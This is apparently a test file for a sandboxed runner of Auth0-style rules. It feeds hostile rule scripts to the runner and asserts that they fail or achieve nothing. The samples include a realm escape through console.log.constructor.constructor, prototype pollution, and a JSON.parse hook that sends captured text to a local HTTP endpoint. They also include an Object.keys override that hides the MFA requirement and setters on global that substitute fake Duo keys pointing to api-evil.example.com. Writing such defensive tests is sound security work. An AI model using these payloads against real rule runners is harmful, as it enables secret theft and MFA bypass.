// Attack: hook the child's own realm (host JSON, prototypes) so that a later run leaks its
// secret or reports no MFA. Every run has a fresh process, so the next run is clean; inside one
// rules-directory login (one process, one shared `global` as in Auth0) a rule that changes the
// runner's own built-ins fails, and one that plants setters for the runner's globals gets nothing.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { runCliProcess } from '../runnerHelpers';
import { asAction, asRule, assertNextRunClean, assertNoSecretFragment, createArena, DUO_CONFIGURATION, runAttack, type Arena } from './hostileHelpers';

let arena: Arena;
before(() => { arena = createArena(); });
after(() => arena.remove());

const hook = `
  const host = console.log.constructor.constructor('return this')();
  host.Object.prototype.multifactor = null;
  const parse = host.JSON.parse;
  host.JSON.parse = function (text) { host.__seen = (host.__seen || '') + text; return parse(text); };
  host.setInterval(() => { try { require('http').get('http://127.0.0.1:9/?' + encodeURIComponent(host.__seen || '')); } catch (e) {} }, 5);
`;

/** Writes a deploy-cli rules directory `dir` whose rules run in the given order. */
function writePipeline(dir: string, rules: [name: string, code: string][]): void {
  rules.forEach(([name, code], index) => {
    arena.ws.write(`${dir}/rules/${name}.json`, JSON.stringify({ name, enabled: true, order: index + 1, stage: 'login_success', script: `./${name}.js` }));
    arena.ws.write(`${dir}/rules/${name}.js`, code);
  });
}

async function runPipeline(dir: string): Promise<{ code: number | null; report: Record<string, any> }> {
  const run = await runCliProcess(arena.ws.root, [dir, '--configuration', 'configuration.json', '--format', 'json', '--timeout', '3000']);
  assert.ok(run.code === 0 || run.code === 1, `duo-rules run exited with ${run.code}: ${run.stderr}`);
  assertNoSecretFragment(run.stdout + run.stderr);
  return { code: run.code, report: JSON.parse(run.stdout) };
}

const REQUIRE_DUO = `function requireDuo(user, context, callback) {
  console.log('require-duo ran');
  context.multifactor = { provider: 'duo', ikey: configuration.DUO_IKEY, skey: configuration.DUO_SKEY, host: configuration.DUO_HOST };
  callback(null, user, context);
}`;

describe('hostile: contamination of later runs', () => {
  for (const [form, wrap] of [['Rule', asRule], ['Action', asAction]] as const) {
    test(`${form}: hooks planted in the child's realm end the run as IsolationError and never reach the next run`, async () => {
      const report = await runAttack(arena, `hook-${form}`, wrap(hook), { outcome: 'error', errorName: 'IsolationError' });
      assert.match(report.error.message, /changed the runner's own built-in objects \(Object\.prototype\.multifactor was added\)/);
      // runAttack has run the next rule: completed with its MFA and the skey redacted.
    });
  }

  test('a change the runner cannot undo (a built-in made unchangeable) is reported alone, from fixed text', async () => {
    const report = await runAttack(arena, 'frozen-hook', asRule(`
      const host = console.log.constructor.constructor('return this')();
      const map = host.Array.prototype.map;
      host.Object.defineProperty(host.Array.prototype, 'map', { value: function (f) { return map.call(this, f).filter((v) => v !== undefined); }, writable: false, configurable: false });
    `), { outcome: 'error', errorName: 'IsolationError' });
    assert.match(report.error.message, /Array\.prototype\.map was changed/);
    assert.equal(report.multifactor, null);
  });
});

describe('hostile: one rule of a login against the next', () => {
  test('a rule that makes the runner drop the next rule\'s MFA fails the login (exit 1), instead of "Requires MFA: no" with exit 0', async () => {
    writePipeline('hide-mfa', [
      ['hide-mfa', asRule(`
        const host = console.log.constructor.constructor('return this')();
        const keys = host.Object.keys;
        host.Object.keys = function (o) { return keys(o).filter((k) => k !== 'multifactor'); };
      `)],
      ['require-duo', REQUIRE_DUO],
    ]);
    const { code, report } = await runPipeline('hide-mfa');
    assert.equal(code, 1);
    assert.equal(report.outcome, 'error');
    assert.equal(report.error.name, 'IsolationError');
    assert.match(report.error.message, /Object\.keys was changed/);
    assert.equal(report.rule, 'hide-mfa');
    assert.deepEqual(report.rules, [{ name: 'hide-mfa', outcome: 'error' }]);
    await assertNextRunClean(arena);
  });

  test('setters planted on the shared global for the runner\'s own names get nothing: the next rule has the real configuration, console and callback', async () => {
    writePipeline('setters', [
      ['plant', asRule(`
        const fake = { DUO_IKEY: 'DIXXXXXXXXXXXXXXXXXX', DUO_SKEY: 'x'.repeat(40), DUO_HOST: 'api-evil.example.com' };
        for (const name of ['configuration', 'console', '__duoRulesInvoke', 'require']) {
          Object.defineProperty(global, name, { configurable: true, get() { return name === 'configuration' ? fake : undefined; }, set(v) { global.stolen = (global.stolen || 0) + 1; } });
        }
        global.helper = () => 'shared';
      `)],
      ['require-duo', REQUIRE_DUO.replace("console.log('require-duo ran');", "console.log('require-duo ran', global.helper(), typeof global.stolen);")],
    ]);
    const { code, report } = await runPipeline('setters');
    assert.equal(code, 0, JSON.stringify(report.error));
    assert.equal(report.outcome, 'completed');
    assert.equal(report.multifactor.host, DUO_CONFIGURATION.DUO_HOST);
    assert.equal(report.multifactor.skey, '[redacted]');
    // A helper on `global` is Auth0's behaviour and stays; the setters were never called.
    assert.ok(report.logs.includes('[require-duo] require-duo ran shared undefined'), JSON.stringify(report.logs));
  });

  test('a setter for the runner\'s entry point on the global\'s prototype does not see the next rule\'s callback', async () => {
    writePipeline('proto-setter', [
      ['plant', asRule(`
        const proto = Object.getPrototypeOf(global);
        Object.defineProperty(proto, '__duoRulesInvoke', { configurable: true, set(f) { global.caught = true; }, get() { return () => undefined; } });
      `)],
      ['require-duo', REQUIRE_DUO.replace("console.log('require-duo ran');", "console.log('caught', String(global.caught));")],
    ]);
    const { code, report } = await runPipeline('proto-setter');
    assert.equal(code, 0, JSON.stringify(report.error));
    assert.equal(report.multifactor.provider, 'duo');
    assert.deepEqual(report.logs, ['[require-duo] caught undefined']);
  });
});
